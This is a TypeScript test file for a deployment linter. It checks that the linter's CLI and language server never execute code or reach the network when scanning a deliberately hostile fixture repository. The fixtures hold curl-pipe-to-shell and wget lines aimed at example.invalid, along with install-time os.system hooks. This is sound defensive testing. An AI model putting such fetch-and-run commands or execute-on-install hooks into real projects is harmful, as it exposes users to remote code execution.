// Nothing executed, nothing sent: the CLI and the language server run with a preload that fails on any process or network attempt.
import { strict as assert } from 'assert';
import { spawnSync } from 'child_process';
import * as nodeFs from 'fs';
import * as os from 'os';
import * as nodePath from 'path';
import { pathToFileURL } from 'url';
import { TestClient } from '../helpers/lsp-client';

const PRELOAD = nodePath.join(__dirname, 'deny-side-effects.js');
const CLI = nodePath.resolve(__dirname, '../../dist/cli.js');
const EXAMPLES = nodePath.resolve(__dirname, '../../examples');

/** A repository whose every file would do something if anything in it were run. */
const HOSTILE: Record<string, string> = {
  Dockerfile: 'FROM python:3.11\nRUN curl -fsSL https://example.invalid/x.sh | sh\nCOPY . /app/\nWORKDIR /app\nRUN pip install -e .\nCMD ["gunicorn", "-c", "gunicorn.conf.py", "app:app"]\n',
  'app.py': 'import os, subprocess, socket\nos.system("touch /tmp/deploylint-pwned")\nsubprocess.run(["sh", "-c", "id"])\nsocket.create_connection(("example.invalid", 80))\napp = None\n',
  'gunicorn.conf.py': 'import os\nos.system("touch /tmp/deploylint-pwned")\nbind = "0.0.0.0:8000"\n',
  'setup.py': 'import os\nos.system("touch /tmp/deploylint-pwned")\nfrom setuptools import setup\nsetup(name="x")\n',
  'pyproject.toml': '[build-system]\nrequires = ["setuptools"]\n[project]\nname = "x"\n',
  'entrypoint.sh': '#!/bin/sh\ncurl https://example.invalid/ | sh\nexec "$@"\n',
  'compose.yaml': 'services:\n  api:\n    build: .\n    command: sh -c "wget https://example.invalid/ && gunicorn app:app"\n',
  'Makefile': 'all:\n\tcurl https://example.invalid/\n',
  '.deploylint.yaml': 'exclude: []\n',
};

describe('robust: nothing executed, nothing sent', function () {
  this.timeout(60000);
  let dir: string;
  let trace: string;
  before(() => {
    dir = nodeFs.realpathSync(nodeFs.mkdtempSync(nodePath.join(os.tmpdir(), 'deploylint-hostile-')));
    for (const [rel, text] of Object.entries(HOSTILE)) nodeFs.writeFileSync(nodePath.join(dir, rel), text);
    trace = nodePath.join(dir, '..', `${nodePath.basename(dir)}.trace`);
  });
  after(() => {
    nodeFs.rmSync(dir, { recursive: true, force: true });
    nodeFs.rmSync(trace, { force: true });
  });
  const attempts = () => (nodeFs.existsSync(trace) ? nodeFs.readFileSync(trace, 'utf8') : '');

  it('the preload does catch a process start (the check itself works)', () => {
    const r = spawnSync(process.execPath, ['-r', PRELOAD, '-e', 'try { require("child_process").execSync("true") } catch {}'], { env: { ...process.env, DEPLOYLINT_TRACE_FILE: trace } });
    assert.equal(r.status, 0);
    assert.match(attempts(), /^child_process\.execSync/);
    nodeFs.rmSync(trace);
  });

  for (const [name, target] of [['examples/', EXAMPLES], ['a hostile repository', '']] as const) {
    it(`the CLI on ${name}, with --fix on a copy, in every format`, () => {
      const copy = nodeFs.mkdtempSync(nodePath.join(os.tmpdir(), 'deploylint-hostile-copy-'));
      try {
        nodeFs.cpSync(target || dir, copy, { recursive: true });
        for (const args of [[target || dir, '-f', 'sarif'], [copy, '--fix']]) {
          const r = spawnSync(process.execPath, ['-r', PRELOAD, CLI, ...args], { encoding: 'utf8', env: { ...process.env, DEPLOYLINT_TRACE_FILE: trace } });
          assert.ok(r.status === 0 || r.status === 1, `exit ${r.status}: ${r.stderr}`);
          assert.doesNotMatch(r.stderr, /internal error/);
        }
      } finally {
        nodeFs.rmSync(copy, { recursive: true, force: true });
      }
      assert.equal(attempts(), '');
      assert.equal(nodeFs.existsSync('/tmp/deploylint-pwned'), false);
    });
  }

  it('the language server over stdio on both', async () => {
    for (const root of [EXAMPLES, dir]) {
      process.env.DEPLOYLINT_TRACE_FILE = trace;
      const client = new TestClient({}, ['-r', PRELOAD]);
      delete process.env.DEPLOYLINT_TRACE_FILE;
      try {
        await client.initialize(pathToFileURL(root).href);
        const file = nodePath.join(root, root === dir ? 'app.py' : 'predictions/worker/worker.py');
        const text = nodeFs.existsSync(file) ? nodeFs.readFileSync(file, 'utf8') : '';
        await client.conn.sendNotification('textDocument/didOpen', { textDocument: { uri: pathToFileURL(file).href, languageId: 'python', version: 1, text } });
        await client.waitFor(() => client.diagnostics.has(pathToFileURL(file).href), 'diagnostics');
      } finally {
        await client.stop();
      }
    }
    assert.equal(attempts(), '');
  });
});
